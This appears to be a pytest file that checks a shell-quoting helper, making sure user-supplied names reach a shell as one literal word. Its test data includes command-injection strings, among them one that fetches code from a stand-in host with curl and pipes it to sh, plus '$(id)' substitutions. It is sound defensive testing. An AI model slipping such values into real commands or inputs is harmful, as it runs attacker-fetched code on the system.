"""Names in commands that people copy: each is one word to a shell, whatever it holds."""

import subprocess

import pytest

from groat.protocol.shell import command, shell_word

ODD = (";curl${IFS}evil|sh;#", "$(id)", "`id`", "a'b", "'", "a&b", "a>b", "*", "~root", "!!", "{a,b}", "(x)", "#", "")


@pytest.mark.rule("ST-13")
@pytest.mark.parametrize("name", ODD)
def test_a_real_shell_reads_one_word(name: str) -> None:
    """Nothing is expanded, run or split."""
    done = subprocess.run(["sh", "-c", f"printf '<%s>' {shell_word(name)}"], capture_output=True, text=True, check=True)
    assert done.stdout == f"<{name}>"


@pytest.mark.rule("ST-13")
@pytest.mark.parametrize("name", ["billing", "https://ci.example/repo:main@v1", "a_b-c.d"])
def test_a_usual_name_stands_as_it_is(name: str) -> None:
    """Quotes would only be in the way."""
    assert command("client show", name) == f"groat client show {name}"


@pytest.mark.rule("ST-13")
def test_controls_do_not_reach_a_terminal() -> None:
    """They come out escaped."""
    assert shell_word("a\x1b[2Jb\n").isprintable()


@pytest.mark.rule("ST-13")
def test_a_name_like_an_option_stands_behind_two_dashes() -> None:
    """Otherwise it would be one."""
    assert command("client update", "--yes", options="--strict-typ") == "groat client update --strict-typ -- --yes"
